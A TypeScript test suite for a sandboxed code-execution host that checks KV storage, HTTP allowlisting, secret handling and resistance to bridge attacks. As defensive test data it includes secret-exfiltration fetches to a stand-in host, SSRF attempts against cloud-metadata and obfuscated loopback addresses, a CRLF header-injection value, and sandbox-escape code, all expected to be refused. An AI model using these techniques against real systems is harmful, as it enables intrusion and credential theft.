/**
 * The WIT host interfaces through the real app and worker pool: real SQLite, and a real HTTP server
 * on 127.0.0.1 started here as the allowlisted target. Refused requests must send nothing.
 */
import { mkdtempSync, rmSync } from "node:fs";
import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, afterEach, beforeAll, describe, expect, it } from "vitest";
import type { WorkerPoolEngine } from "../../src/adapters/node/worker-pool.ts";
import { loadConfig } from "../../src/config.ts";
import { appWith, workerPool } from "../helpers/fixtures.ts";

const SECRET = "s3cr3t-token-value-42";
let dir: string;
let target: Server;
let port = 0;
const hits: string[] = [];
let pool: WorkerPoolEngine;
let open: Awaited<ReturnType<typeof appWith>>;
let closed: Awaited<ReturnType<typeof appWith>>;

function config(allowPrivate: boolean) {
  return loadConfig({
    KILN_HTTP_ALLOW_PRIVATE: allowPrivate ? "1" : "",
    KILN_GRANTS: JSON.stringify({ kv: { namespaces: ["*"] }, http: { allow: ["*"] } }),
    KILN_SECRETS: JSON.stringify({ API_TOKEN: SECRET }),
    KILN_HTTP_MAX_RESPONSE_BYTES: "100000",
    KILN_HTTP_MAX_CALLS: "5",
    KILN_LOG_MAX_ENTRIES: "5",
  });
}

beforeAll(async () => {
  dir = mkdtempSync(join(tmpdir(), "kiln-host-"));
  target = createServer((req, res) => {
    hits.push(req.url ?? "");
    const send = (status: number, body: string, headers: Record<string, string> = {}) => res.writeHead(status, headers).end(body);
    if (req.url === "/hello") return send(200, JSON.stringify({ hello: "from target" }), { "content-type": "application/json" });
    if (req.url === "/big") return send(200, "x".repeat(300_000));
    if (req.url === "/redirect-out") return send(302, "", { location: "http://unlisted.example.test/steal" });
    if (req.url === "/slow") return void setTimeout(() => send(200, "late"), 300);
    if (req.url === "/redirect-in") return send(302, "", { location: "/hello" });
    if (req.url === "/echo") {
      let body = "";
      req.on("data", (c) => (body += c));
      req.on("end", () => send(200, JSON.stringify({ method: req.method, body, header: req.headers["x-test"] ?? null })));
      return;
    }
    send(404, "no");
  });
  await new Promise<void>((resolve) => target.listen(0, "127.0.0.1", resolve));
  port = (target.address() as AddressInfo).port;
  pool = await workerPool({ kvPath: join(dir, "kv.sqlite") });
  open = await appWith(pool, config(true));
  closed = await appWith(pool, config(false));
});

afterAll(async () => {
  await pool.close();
  target.close();
  rmSync(dir, { recursive: true, force: true });
});

const run = (app: Awaited<ReturnType<typeof appWith>>, code: string, grants?: unknown) => app.post({ language: "javascript", code, grants });
const local = () => `127.0.0.1:${port}`;
/** Calls `http.fetch(url)` and returns the error's code and message, or the response. */
const tryFetch = (url: string) => `import { http } from "kiln";
  export default async () => { try { const r = await http.fetch(${JSON.stringify(url)}); return { status: r.status, body: r.body } }
  catch (e) { return { code: e.code, message: e.message } } }`;

async function expectClean() {
  const { body } = await run(closed, "export default () => [typeof globalThis.leak, 1 + 1]");
  expect(body).toMatchObject({ ok: true, result: ["undefined", 2] });
}

describe("kv", () => {
  // After every case, hostile or not, a benign run on the same server must succeed.
  afterEach(expectClean);

  it("round-trips and persists across runs", async () => {
    const set = await run(open, `import { kv } from "kiln"; export default async () => { await kv.set("greeting", "hi", null); return kv.get("greeting") }`, { kv: { namespace: "app1" } });
    expect(set.body).toMatchObject({ ok: true, result: "hi" });
    const get = await run(open, `import { kv } from "kiln"; export default async () => [await kv.get("greeting"), await kv.list("gr", 10)]`, { kv: { namespace: "app1" } });
    expect(get.body).toMatchObject({ ok: true, result: ["hi", ["greeting"]] });
  });

  it("persists across a server restart", async () => {
    await run(open, `import { kv } from "kiln"; export default () => kv.set("durable", "yes", null)`, { kv: { namespace: "app1" } });
    await pool.close();
    pool = await workerPool({ kvPath: join(dir, "kv.sqlite") });
    open = await appWith(pool, config(true), { platform: open.platform });
    closed = await appWith(pool, config(false), { platform: closed.platform });
    const { body } = await run(open, `import { kv } from "kiln"; export default () => kv.get("durable")`, { kv: { namespace: "app1" } });
    expect(body).toMatchObject({ ok: true, result: "yes" });
  });

  it("keeps namespaces apart", async () => {
    await run(open, `import { kv } from "kiln"; export default () => kv.set("private", "a's data", null)`, { kv: { namespace: "tenant-a" } });
    const { body } = await run(open, `import { kv } from "kiln"; export default async () => [await kv.get("private"), await kv.list("", 100)]`, { kv: { namespace: "tenant-b" } });
    expect(body).toMatchObject({ ok: true, result: [null, []] });
  });

  it("expires keys after their TTL", async () => {
    const { body } = await run(
      open,
      `import { kv } from "kiln"; export default async () => { await kv.set("short", "v", 1); const t = Date.now(); while (Date.now() - t < 5) {} return kv.get("short") }`,
      { kv: { namespace: "ttl" } },
    );
    expect(body).toMatchObject({ ok: true, result: null });
  });

  it("is denied without a grant, as a catchable error", async () => {
    const { body } = await run(open, `import { kv } from "kiln"; export default async () => { try { await kv.get("x") } catch (e) { return [e.name, e.code, e.message] } }`);
    expect(body.result).toEqual(["HostError", "capability_denied", expect.stringContaining("capability_denied: kv")]);
    const uncaught = await run(open, `import { kv } from "kiln"; export default () => kv.get("x")`);
    expect(uncaught.body).toMatchObject({ ok: false, error: { code: "guest_error", message: expect.stringContaining("capability_denied") } });
  });
});

describe("http", () => {
  // After every case, hostile or not, a benign run on the same server must succeed.
  afterEach(expectClean);

  it("fetches an allowlisted target", async () => {
    const { body } = await run(open, tryFetch(`http://${local()}/hello`), { http: { allow: [local()] } });
    expect(body).toMatchObject({ ok: true, result: { status: 200, body: JSON.stringify({ hello: "from target" }) } });
  });

  it("sends method, headers and body", async () => {
    const code = `import { http } from "kiln"; export default async () => JSON.parse((await http.fetch({ method: "POST", url: "http://${local()}/echo", headers: [["x-test", "1"]], body: "payload" })).body)`;
    const { body } = await run(open, code, { http: { allow: [local()] } });
    expect(body).toMatchObject({ ok: true, result: { method: "POST", body: "payload", header: "1" } });
  });

  it("refuses the same URL when the private-address switch is off, sending nothing", async () => {
    const before = hits.length;
    const { body } = await run(closed, tryFetch(`http://${local()}/hello`), { http: { allow: [local()] } });
    expect(body.result).toMatchObject({ code: "capability_denied" });
    expect(hits.length).toBe(before);
  });

  it("refuses an unlisted host, sending nothing", async () => {
    const before = hits.length;
    const { body } = await run(open, tryFetch(`http://${local()}/hello`), { http: { allow: ["api.example.com"] } });
    expect(body.result).toMatchObject({ code: "capability_denied", message: expect.stringContaining("not granted") });
    expect(hits.length).toBe(before);
  });

  it("is denied without a grant", async () => {
    const { body } = await run(open, tryFetch(`http://${local()}/hello`));
    expect(body.result).toMatchObject({ code: "capability_denied", message: "capability_denied: http is not granted to this run" });
  });

  const banned = () => [
    `http://${local()}/hello`,
    `http://[::1]:${port}/hello`,
    `http://2130706433:${port}/hello`,
    `http://0177.0.0.1:${port}/hello`,
    `http://169.254.169.254/latest/meta-data/`,
    `http://10.0.0.1/`,
    `http://localhost:${port}/hello`,
  ];
  it("refuses loopback, private, link-local and metadata addresses in every form, even when allowlisted", async () => {
    const before = hits.length;
    const allow = [local(), `[::1]:${port}`, "169.254.169.254", "10.0.0.1", `localhost:${port}`];
    for (const url of banned()) {
      const { body } = await run(closed, tryFetch(url), { http: { allow } });
      expect(body.result, url).toMatchObject({ code: "capability_denied" });
    }
    expect(hits.length).toBe(before);
  });

  it("keeps metadata addresses banned even with the switch on", async () => {
    const { body } = await run(open, tryFetch("http://169.254.169.254/latest/meta-data/"), { http: { allow: ["169.254.169.254"] } });
    expect(body.result).toMatchObject({ code: "capability_denied" });
  });

  it("follows redirects only to allowed hosts", async () => {
    const out = await run(open, tryFetch(`http://${local()}/redirect-out`), { http: { allow: [local()] } });
    expect(out.body.result).toMatchObject({ code: "capability_denied", message: expect.stringContaining("unlisted.example.test") });
    const inside = await run(open, tryFetch(`http://${local()}/redirect-in`), { http: { allow: [local()] } });
    expect(inside.body.result).toMatchObject({ status: 200 });
  });

  it("cuts off an oversized response with a clear error", async () => {
    const { body } = await run(open, tryFetch(`http://${local()}/big`), { http: { allow: [local()] } });
    expect(body.result).toMatchObject({ code: "limit_exceeded", message: expect.stringContaining("larger than 100000 bytes") });
  });

  it("burns no fuel while waiting on the host, but counts the wait toward the deadline (a request ends before it)", async () => {
    const waited = await open.post({ language: "javascript", code: tryFetch(`http://${local()}/slow`), grants: { http: { allow: [local()] } }, limits: { fuel: 5 } });
    expect(waited.body).toMatchObject({ ok: true, result: { status: 200, body: "late" } });
    expect(waited.body.usage.fuel).toBeLessThanOrEqual(5);
    expect(waited.body.usage.wallMs).toBeGreaterThanOrEqual(250);
    // A deadline below /slow's 300 ms: the request is cut a reserve (a fifth of what is left, at least 20 ms) before
    // it, and the guest still answers within it. At 100 ms that reserve was 20 ms, too little on a loaded CI machine.
    const late = await open.post({ language: "javascript", code: tryFetch(`http://${local()}/slow`), grants: { http: { allow: [local()] } }, limits: { timeoutMs: 250 } });
    expect(late.body).toMatchObject({ ok: true, result: { code: "failed", message: expect.stringContaining("did not answer within") } });
  });

  it("caps calls per run", async () => {
    const code = `import { http } from "kiln"; export default async () => { const out = []; for (let i = 0; i < 7; i++) { try { await http.fetch("http://${local()}/hello"); out.push("ok") } catch (e) { out.push(e.code) } } return out }`;
    const { body } = await run(open, code, { http: { allow: [local()] } });
    expect(body.result).toEqual(["ok", "ok", "ok", "ok", "ok", "limit_exceeded", "limit_exceeded"]);
  });
});

describe("secrets and log", () => {
  // After every case, hostile or not, a benign run on the same server must succeed.
  afterEach(expectClean);

  it("reads granted secrets and never echoes one in host errors or server logs", async () => {
    const code = `import { secrets, http, kv } from "kiln";
      export default async () => {
        const token = secrets.get("API_TOKEN");
        const errors = [];
        try { await http.fetch("http://unlisted.example.test/?token=" + token) } catch (e) { errors.push(e.message) }
        try { await http.fetch({ url: "http://${local()}/hello", headers: [["authorization", "Bearer " + token + "\\r\\nx: y"]] }) } catch (e) { errors.push(e.message) }
        try { await kv.set(token.repeat(100), "v", null) } catch (e) { errors.push(e.message) }
        let other; try { other = secrets.get("OTHER") } catch (e) { other = e.code }
        return { found: token === ${JSON.stringify(SECRET)}, other, errors };
      }`;
    const res = await run(open, code, { secrets: ["API_TOKEN"], http: { allow: [local()] }, kv: { namespace: "s" } });
    expect(res.body.result).toMatchObject({ found: true, other: "capability_denied" });
    expect(res.body.result.errors).toHaveLength(3);
    expect(JSON.stringify(res.body)).not.toContain(SECRET);
    expect(JSON.stringify(open.errors.map(String))).not.toContain(SECRET);
  });

  it("refuses a secret that exists nowhere with 404 not_found", async () => {
    const res = await run(open, "1", { secrets: ["NOPE"] });
    expect(res.status).toBe(404);
    expect(res.body).toMatchObject({ error: { code: "not_found", message: expect.stringContaining("No secret named 'NOPE'") } });
  });

  it("returns log entries apart from stdout, within the cap", async () => {
    const code = `import { log } from "kiln"; console.log("out");
      export default () => { const r = []; for (let i = 0; i < 7; i++) { try { log.write(i % 2 ? "warn" : "info", "entry " + i); r.push("ok") } catch (e) { r.push(e.code) } }
        try { log.write("loud", "x") } catch (e) { r.push(e.code) } return r }`;
    const { body } = await run(open, code);
    expect(body.result).toEqual(["ok", "ok", "ok", "ok", "ok", "limit_exceeded", "limit_exceeded", "invalid_argument"]);
    expect(body.stdout).toBe("out\n");
    expect(body.logs).toHaveLength(5);
    expect(body.logs[1]).toEqual({ level: "warn", message: "entry 1" });
  });
});

describe("bridge attacks get nothing from the host", () => {
  const grants = () => ({ kv: { namespace: "attack" }, http: { allow: [local()] } });
  const cases: [string, string, (result: any) => void][] = [
    [
      "reaching the host through a host function's constructor",
      `import { kv } from "kiln"; export default () => { const g = kv.get.constructor.constructor("return this")(); return [typeof g.process, typeof g.require, Object.getOwnPropertyNames(kv.get).sort()] }`,
      (r) => expect(r).toEqual(["undefined", "undefined", ["length", "name"]]),
    ],
    [
      "passing functions, thenables and Proxies as arguments",
      `import { kv } from "kiln"; export default async () => {
        const out = [];
        const proxy = new Proxy({}, { get() { throw new Error("trap") } });
        for (const arg of [() => 1, { then(r) { r("x") } }, proxy, Symbol("s")]) { try { await kv.set(arg, "v", null); out.push("stored") } catch (e) { out.push(e.code ?? e.message) } }
        return out }`,
      (r) => expect(r).toEqual(["invalid_argument", "invalid_argument", "trap", "invalid_argument"]),
    ],
    [
      "huge arguments",
      `import { kv } from "kiln"; export default async () => { try { await kv.set("k", "x".repeat(5e6), null) } catch (e) { return e.code } }`,
      (r) => expect(r).toBe("limit_exceeded"),
    ],
    [
      "throwing from a getter the host might read",
      `import { http } from "kiln"; export default async () => { try { await http.fetch({ get url() { throw new Error("boom") } }) } catch (e) { return e.message } }`,
      (r) => expect(r).toBe("boom"),
    ],
    [
      "calls left running when the run ends",
      `import { kv, http } from "kiln"; export default () => { kv.set("late", "1", null); http.fetch("http://${"127.0.0.1"}:1/"); return "done" }`,
      (r) => expect(r).toBe("done"),
    ],
    [
      "re-entrant calls from inside callbacks",
      `import { kv } from "kiln"; export default () => kv.set("a", "1", null).then(() => kv.get("a").then((v) => kv.set("b", v + "2", null).then(() => kv.get("b"))))`,
      (r) => expect(r).toBe("12"),
    ],
    [
      "calling the bridge directly with non-string arguments whose toString runs code",
      `import "kiln"; export default () => { const bridge = globalThis[Symbol.for("kiln.bridge")]; let ran = 0;
        const evil = { toString() { ran++; return "kv" } };
        const answer = JSON.parse(bridge(evil, "get", '["k"]')); return [answer.err && answer.err.code, ran] }`,
      (r) => expect(r).toEqual(["invalid_argument", 0]),
    ],
    [
      "forging a host answer by replacing JSON",
      `import { kv } from "kiln"; export default async () => { await kv.set("j", "real", null); JSON.parse = () => ({ ok: "forged" }); return kv.get("j") }`,
      (r) => expect(r).toBe("real"),
    ],
  ];
  for (const [what, code, check] of cases) {
    it(what, async () => {
      const { status, body } = await run(open, code, grants());
      expect(status).toBe(200);
      expect(body.ok).toBe(true);
      check(body.result);
      await expectClean();
    });
  }

  it("leaves the host healthy", async () => {
    expect(open.errors).toEqual([]);
    expect(closed.errors).toEqual([]);
    expect(pool.threads).toBe(2);
    await expectClean();
  });
});
